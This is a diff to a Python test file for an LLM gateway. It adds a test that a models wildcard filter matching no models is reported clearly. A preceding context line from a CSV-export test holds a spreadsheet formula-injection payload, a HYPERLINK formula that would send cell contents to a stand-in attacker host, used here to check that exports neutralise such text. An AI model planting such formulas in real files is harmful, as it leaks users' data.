@@ -251,3 +251,20 @@ def test_csv_exports_write_formula_like_text_as_text(boxes, start, make_openai_c
     assert len(rows) == 4, rows
     assert {r[2] for r in rows[1:]} == {"'=HYPERLINK(\"http://evil.example/?\"&A1)"}
     assert sorted(r[3] for r in rows[1:]) == ["'=1+2", "'@SUM(A1)", "plain"]
+
+
+def test_a_models_filter_that_matches_nothing_is_said(boxes, start, make_openai_client, tmp_path):
+    """`models = ["llama*"]` in front of a vLLM box that lists "meta-llama/Llama-3.1-8B-Instruct" matches
+    nothing (a wildcard matches the whole name): the box served no model, no line said so, and `auto`
+    answered "No configured model can serve this request" (found playing a new operator)."""
+    box = boxes(["meta-llama/Llama-3.1-8B-Instruct", "Qwen/Qwen2.5-7B-Instruct"])
+    gw, cfg = start(f'[providers.gpubox]\nbase_url = "{box.base_url}"\nmodels = ["llama*"]\n')
+    out = cli("models", "--config", str(cfg), "--database-url", f"sqlite:///{tmp_path}/cli.db")
+    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr
+    assert "provider gpubox: its models filter ['llama*'] matches none of the 2 model(s) it lists" in out.stderr
+    assert "meta-llama/Llama-3.1-8B-Instruct" in out.stderr and '"*llama*"' in out.stderr
+    client = make_openai_client(gw)
+    assert ids(client) == set()                             # not even auto
+    with pytest.raises(openai.BadRequestError) as err:
+        client.chat.completions.create(model="auto", messages=[{"role": "user", "content": "hello"}])
+    assert "No model is served by this gateway" in err.value.message and "routerone models" in err.value.message
